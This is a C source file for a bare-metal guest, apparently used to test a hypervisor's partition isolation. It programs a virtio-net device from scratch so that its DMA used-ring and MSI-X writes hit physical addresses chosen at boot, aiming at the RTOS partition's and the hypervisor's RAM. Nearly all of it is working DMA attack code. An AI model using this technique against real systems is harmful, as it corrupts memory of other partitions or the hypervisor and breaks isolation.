/*
 * A DMA attacker: booted as the Linux partition with the PCIe host assigned, it finds the virtio-net
 * device, assigns its BARs, turns bus mastering on and drives it as a modern virtio device from scratch
 * (no Linux driver), pointing the transmit queue's used ring (which the device writes) at each address
 * of `targets=` in turn: `own` is a buffer in this partition's RAM (the device must work there), any
 * other value a physical address to attack (the rtos's RAM, the hypervisor's). `msi:ADDR` keeps the
 * rings in its own RAM but points the device's MSI-X vector at ADDR: an MSI is a DMA write too (of the
 * vector's data word), sent when the device signals the frame it sent. It accepts only the features QEMU
 * insists on (VERSION_1, and ACCESS_PLATFORM when offered).
 *
 * Boot arguments: targets=own,0x48080020,... (comma-separated); delay_ms=N before the first target
 * (default 1500: the rtos has printed its boot checksum by then); gap_ms=N between targets (default 0);
 * repeat=N attempts per target (default 1). Then it powers off.
 * Output, one line per target: "dma: target T: used ring 0x..., device status 0x.., used.idx N"; the
 * used index is read back only for `own` (reading another partition's RAM is not possible from here).
 */
#include "guest.h"

/* QEMU virt's PCIe host (board.py, "pcie"): ECAM for bus 0..255, the 32-bit memory window. */
#define ECAM_BASE     0x4010000000ull
#define PCI_MEM_BASE  0x10000000u
#define PCI_MEM_END   0x3eff0000u
#define PCI_SLOTS     32u
#define VIRTIO_VENDOR 0x1af4u
#define VIRTIO_NET_ID 0x1041u /* modern-only virtio-net (disable-legacy=on) */

/* PCI configuration space (PCI Local Bus 3.0, 6.1) and the virtio PCI capabilities (virtio 1.1, 4.1.4). */
#define PCI_ID             0x00u
#define PCI_COMMAND        0x04u /* status in the upper half */
#define PCI_COMMAND_MEMORY 0x2u
#define PCI_COMMAND_MASTER 0x4u
#define PCI_STATUS_CAPS    (0x10u << 16)
#define PCI_BAR0           0x10u
#define PCI_CAP_PTR        0x34u
#define PCI_CAP_VENDOR     0x09u
#define PCI_CAP_MSIX       0x11u
#define MSIX_ENABLE        (0x8000u << 16) /* message control, the upper half of the capability's word */
#define MSIX_DATA          0xdeadbeefu
#define VIRTIO_CAP_COMMON  1u
#define VIRTIO_CAP_NOTIFY  2u

/* Common configuration structure offsets. */
#define VC_DFSELECT 0x00u
#define VC_DF       0x04u
#define VC_GFSELECT 0x08u
#define VC_GF       0x0cu
#define VC_STATUS   0x14u /* 8-bit */
#define VC_Q_SELECT 0x16u /* 16-bit */
#define VC_Q_SIZE   0x18u
#define VC_Q_MSIX   0x1au
#define VC_Q_ENABLE 0x1cu
#define VC_Q_NOTIFY 0x1eu
#define VC_Q_DESC   0x20u /* 64-bit, written as two halves */
#define VC_Q_DRIVER 0x28u
#define VC_Q_DEVICE 0x30u

#define ST_ACK             0x01u
#define ST_DRIVER          0x02u
#define ST_DRIVER_OK       0x04u
#define ST_FEATURES_OK     0x08u
#define VERSION_1_HI       0x1u /* VIRTIO_F_VERSION_1 is feature bit 32 */
#define ACCESS_PLATFORM_HI 0x2u /* VIRTIO_F_ACCESS_PLATFORM, bit 33 */
#define TX_QUEUE           1u
#define QSIZE              8u
#define NET_HDR            12u /* struct virtio_net_hdr with num_buffers (VERSION_1) */
#define FRAME              60u

struct vring_desc {
    uint64_t addr;
    uint32_t len;
    uint16_t flags, next;
};

/* This partition's own memory for the queues and the frame (the MMU is off: addresses are IPAs). */
static struct vring_desc desc[QSIZE] __attribute__((aligned(4096)));
static volatile uint16_t avail[2 + QSIZE + 1] __attribute__((aligned(4096)));
static volatile uint32_t used_own[1 + 2 * QSIZE + 1] __attribute__((aligned(4096)));
static uint8_t frame[NET_HDR + FRAME] __attribute__((aligned(64)));

static uintptr_t common, notify, msix_table;
static unsigned dev_slot, msix_cap;
static uint32_t notify_mult;

static volatile uint32_t *cfg32(unsigned slot, unsigned off)
{
    return (volatile uint32_t *)(uintptr_t)(ECAM_BASE + ((uint64_t)slot << 15) + off);
}

static uint8_t cfg8(unsigned slot, unsigned off)
{
    return (uint8_t)(*cfg32(slot, off & ~3u) >> (8u * (off & 3u)));
}

bool guest_on_sync(struct guest_frame *f)
{
    (void)f;
    return false; /* nothing here should fault: report it and halt */
}

void guest_on_irq(struct guest_frame *f)
{
    (void)f;
}

static void mmio_w8(uintptr_t a, uint8_t v)
{
    *(volatile uint8_t *)a = v;
}

static void mmio_w16(uintptr_t a, uint16_t v)
{
    *(volatile uint16_t *)a = v;
}

static void mmio_w32(uintptr_t a, uint32_t v)
{
    *(volatile uint32_t *)a = v;
}

static uint8_t mmio_r8(uintptr_t a)
{
    return *(volatile uint8_t *)a;
}

static uint16_t mmio_r16(uintptr_t a)
{
    return *(volatile uint16_t *)a;
}

static uint32_t mmio_r32(uintptr_t a)
{
    return *(volatile uint32_t *)a;
}

static void mmio_w64(uintptr_t a, uint64_t v)
{
    mmio_w32(a, (uint32_t)v);
    mmio_w32(a + 4u, (uint32_t)(v >> 32));
}

static void spin_ms(uint64_t ms)
{
    uint64_t end = guest_counter() + ms * guest_counter_hz() / 1000u;
    while (guest_counter() < end) {
    }
}

/* Sizes and places every memory BAR in the 32-bit window; returns the BARs' addresses. */
static void assign_bars(unsigned slot, uint64_t bar[6])
{
    uint64_t next = PCI_MEM_BASE;
    for (unsigned i = 0; i < 6; i++) {
        volatile uint32_t *lo = cfg32(slot, PCI_BAR0 + 4u * i);
        bar[i] = 0;
        uint32_t orig = *lo;
        if (orig & 1u) {
            continue; /* I/O space */
        }
        bool is64 = ((orig >> 1) & 3u) == 2u;
        *lo = 0xffffffffu;
        uint64_t mask = *lo & ~0xfull;
        if (is64) {
            volatile uint32_t *hi = cfg32(slot, PCI_BAR0 + 4u * (i + 1u));
            *hi = 0xffffffffu;
            mask |= (uint64_t)*hi << 32;
        } else {
            mask |= 0xffffffff00000000ull;
        }
        uint64_t size = ~mask + 1u;
        if (mask == 0xffffffff00000000ull || size == 0) {
            *lo = orig; /* not implemented */
            if (is64) {
                i++;
            }
            continue;
        }
        next = (next + size - 1u) & ~(size - 1u);
        bar[i] = next;
        *lo = (uint32_t)next;
        if (is64) {
            *cfg32(slot, PCI_BAR0 + 4u * (i + 1u)) = (uint32_t)(next >> 32);
            i++;
        }
        next += size;
    }
    if (next > PCI_MEM_END) {
        guest_puts("dma: BARs do not fit the window\n");
        guest_power_off();
    }
}

static bool find_device(unsigned *slot_out)
{
    for (unsigned slot = 0; slot < PCI_SLOTS; slot++) {
        uint32_t id = *cfg32(slot, PCI_ID);
        if ((id & 0xffffu) == VIRTIO_VENDOR && (id >> 16) == VIRTIO_NET_ID) {
            *slot_out = slot;
            return true;
        }
    }
    return false;
}

static void find_caps(unsigned slot, const uint64_t bar[6])
{
    if (!(*cfg32(slot, PCI_COMMAND) & PCI_STATUS_CAPS)) {
        return;
    }
    for (uint8_t at = cfg8(slot, PCI_CAP_PTR) & 0xfcu; at != 0; at = cfg8(slot, at + 1u) & 0xfcu) {
        if (cfg8(slot, at) == PCI_CAP_MSIX) {
            uint32_t table = *cfg32(slot, at + 4u); /* BIR [2:0], offset above */
            msix_cap = at;
            msix_table = (uintptr_t)(bar[table & 7u] + (table & ~7u));
            continue;
        }
        if (cfg8(slot, at) != PCI_CAP_VENDOR) {
            continue;
        }
        uint8_t type = cfg8(slot, at + 3u), b = cfg8(slot, at + 4u);
        uint32_t off = *cfg32(slot, at + 8u);
        if (b >= 6) {
            continue;
        }
        if (type == VIRTIO_CAP_COMMON && common == 0) {
            common = (uintptr_t)(bar[b] + off);
        } else if (type == VIRTIO_CAP_NOTIFY && notify == 0) {
            notify = (uintptr_t)(bar[b] + off);
            notify_mult = *cfg32(slot, at + 16u);
        }
    }
}

static uint64_t parse_hex(const char *s, const char **end)
{
    uint64_t v = 0;
    if (s[0] == '0' && (s[1] == 'x' || s[1] == 'X')) {
        s += 2;
    }
    for (;; s++) {
        unsigned d;
        if (*s >= '0' && *s <= '9') {
            d = (unsigned)(*s - '0');
        } else if (*s >= 'a' && *s <= 'f') {
            d = (unsigned)(*s - 'a' + 10);
        } else if (*s == '_') {
            continue;
        } else {
            break;
        }
        v = v * 16u + d;
    }
    *end = s;
    return v;
}

/* One attempt: device reset, features, the transmit queue with its used ring at `used`, one frame. */
/* MSI-X entry 0 writes MSIX_DATA to `addr` (0: MSI-X off, the device uses INTx). */
static void msix_to(uint64_t addr)
{
    volatile uint32_t *control = cfg32(dev_slot, msix_cap);
    if (addr == 0) {
        *control &= ~MSIX_ENABLE;
        return;
    }
    mmio_w32(msix_table, (uint32_t)addr);
    mmio_w32(msix_table + 4u, (uint32_t)(addr >> 32));
    mmio_w32(msix_table + 8u, MSIX_DATA);
    mmio_w32(msix_table + 12u, 0); /* unmasked */
    *control |= MSIX_ENABLE;
}

static void attempt(const char *name, uint64_t used, bool own, uint64_t msi, bool quiet)
{
    mmio_w8(common + VC_STATUS, 0);
    for (unsigned i = 0; i < 1000 && mmio_r8(common + VC_STATUS) != 0; i++) {
    }
    mmio_w8(common + VC_STATUS, ST_ACK);
    mmio_w8(common + VC_STATUS, ST_ACK | ST_DRIVER);
    /* QEMU refuses FEATURES_OK unless the driver accepts ACCESS_PLATFORM when the device offers it
     * (which only says that its DMA goes through the platform's IOMMU, if there is one). */
    mmio_w32(common + VC_DFSELECT, 1);
    uint32_t offered = mmio_r32(common + VC_DF);
    mmio_w32(common + VC_GFSELECT, 1);
    mmio_w32(common + VC_GF, offered & (VERSION_1_HI | ACCESS_PLATFORM_HI));
    mmio_w32(common + VC_GFSELECT, 0);
    mmio_w32(common + VC_GF, 0);
    mmio_w8(common + VC_STATUS, ST_ACK | ST_DRIVER | ST_FEATURES_OK);
    if (!(mmio_r8(common + VC_STATUS) & ST_FEATURES_OK)) {
        guest_printf("dma: target %s: the device refused the features\n", name);
        return;
    }
    memset(desc, 0, sizeof(desc));
    for (unsigned i = 0; i < sizeof(avail) / sizeof(avail[0]); i++) {
        avail[i] = 0;
    }
    for (unsigned i = 0; i < sizeof(used_own) / sizeof(used_own[0]); i++) {
        used_own[i] = 0;
    }
    mmio_w16(common + VC_Q_SELECT, TX_QUEUE);
    mmio_w16(common + VC_Q_SIZE, QSIZE);
    mmio_w64(common + VC_Q_DESC, (uint64_t)(uintptr_t)desc);
    mmio_w64(common + VC_Q_DRIVER, (uint64_t)(uintptr_t)avail);
    mmio_w64(common + VC_Q_DEVICE, used);
    msix_to(msi);
    if (msi != 0) {
        mmio_w16(common + VC_Q_MSIX, 0); /* the transmit queue signals through MSI-X entry 0 */
    }
    mmio_w16(common + VC_Q_ENABLE, 1);
    uint16_t notify_off = mmio_r16(common + VC_Q_NOTIFY);
    mmio_w8(common + VC_STATUS, ST_ACK | ST_DRIVER | ST_FEATURES_OK | ST_DRIVER_OK);
    /* A broadcast frame behind a zero virtio-net header. */
    memset(frame, 0, sizeof(frame));
    memset(frame + NET_HDR, 0xff, 6);
    frame[NET_HDR + 6] = 0x52, frame[NET_HDR + 7] = 0x54, frame[NET_HDR + 11] = 0x01;
    frame[NET_HDR + 12] = 0x88, frame[NET_HDR + 13] = 0xb5; /* local experimental EtherType */
    desc[0].addr = (uint64_t)(uintptr_t)frame;
    desc[0].len = sizeof(frame);
    avail[2] = 0; /* ring[0] = descriptor 0 */
    __asm__ volatile("dsb sy" ::: "memory");
    avail[1] = 1; /* idx */
    __asm__ volatile("dsb sy" ::: "memory");
    mmio_w16(notify + (uintptr_t)notify_off * notify_mult, TX_QUEUE);
    /* The device sends from a bottom half of QEMU's main loop: give it time (its own ring shows when). */
    uint32_t idx = 0;
    for (unsigned ms = 0; ms < (own ? 200u : 20u); ms++) {
        spin_ms(1);
        idx = own ? (used_own[0] >> 16) : 0;
        if (own && idx != 0) {
            break;
        }
    }
    if (!quiet) {
        guest_printf("dma: target %s: used ring 0x%lx, MSI to 0x%lx, device status 0x%x, used.idx %u\n", name,
                     (unsigned long)used, (unsigned long)msi, mmio_r8(common + VC_STATUS), idx);
    }
    msix_to(0);
}

void guest_main(void)
{
    unsigned slot;
    if (!find_device(&slot)) {
        guest_puts("dma: no virtio-net device on the PCIe host\n");
        guest_power_off();
    }
    uint64_t bar[6];
    assign_bars(slot, bar);
    dev_slot = slot;
    *cfg32(slot, PCI_COMMAND) = PCI_COMMAND_MEMORY | PCI_COMMAND_MASTER;
    find_caps(slot, bar);
    if (common == 0 || notify == 0 || msix_table == 0) {
        guest_puts("dma: no virtio common or notify capability, or no MSI-X\n");
        guest_power_off();
    }
    guest_printf("dma: virtio-net at 00:%x.0, bus master on\n", slot);
    spin_ms(guest_arg_u64("delay_ms", 1500));
    char list[256];
    if (!guest_arg("targets", list, sizeof(list))) {
        guest_puts("dma: no targets= in the boot arguments\n");
        guest_power_off();
    }
    unsigned n = 0;
    uint64_t gap = guest_arg_u64("gap_ms", 0), repeat = guest_arg_u64("repeat", 1);
    for (const char *p = list; *p;) {
        char name[24];
        unsigned k = 0;
        while (p[k] && p[k] != ',' && k + 1 < sizeof(name)) {
            name[k] = p[k];
            k++;
        }
        name[k] = 0;
        bool msi = name[0] == 'm' && name[1] == 's' && name[2] == 'i' && name[3] == ':';
        bool own = msi || guest_strcmp(name, "own") == 0;
        const char *end;
        uint64_t used = own ? (uint64_t)(uintptr_t)used_own : parse_hex(name, &end);
        uint64_t msi_addr = msi ? parse_hex(name + 4, &end) : 0;
        for (uint64_t r = 0; r < repeat; r++) {
            attempt(name, used, own, msi_addr, r != 0);
        }
        if (repeat > 1) {
            guest_printf("dma: target %s: %lu attempts\n", name, (unsigned long)repeat);
        }
        spin_ms(gap);
        n++;
        p += k;
        if (*p == ',') {
            p++;
        }
    }
    mmio_w8(common + VC_STATUS, 0); /* reset: the device stops using the rings */
    guest_printf("dma: %u targets tried\n", n);
    spin_ms(guest_arg_u64("linger_ms", 100));
    guest_power_off();
}
